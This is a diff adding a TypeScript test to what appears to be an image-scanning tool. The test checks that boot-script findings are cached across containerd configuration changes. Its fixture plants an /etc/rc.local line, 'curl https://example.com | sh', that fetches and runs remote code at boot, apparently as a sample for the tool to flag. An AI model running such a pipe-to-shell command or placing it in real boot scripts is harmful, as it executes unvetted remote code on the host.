@@ -63,6 +63,21 @@ test('with the memory of another tree, a tree comes to what it comes to without'
   );
 });
 
+test('what runs at boot is not followed anew for a fix of containerd’s configuration', async () => {
+  const memory: StepMemory = new Map();
+  const doubts = async (config: MemoryFile) => {
+    const image = changed([
+      ['/etc/containerd/config.toml', config],
+      ['/etc/rc.local', '#!/bin/sh\ncurl https://example.com | sh\n'],
+    ]);
+    return (await resolveImage(image, [], OPTIONS, memory)).candidates[0]!.node.image.bootDoubts;
+  };
+  const first = await doubts(version3('false'));
+  expect(first).toHaveLength(1);
+  expect(await doubts(version3('true'))).toBe(first);
+  expect(await doubts('imports = ["/opt/x.toml"]\n')).not.toBe(first);
+});
+
 describe('a step', () => {
   const tree = (text: string) => memoryTree({ '/a': text, '/b': 'b', '/c': { symlink: 'a' } });
 
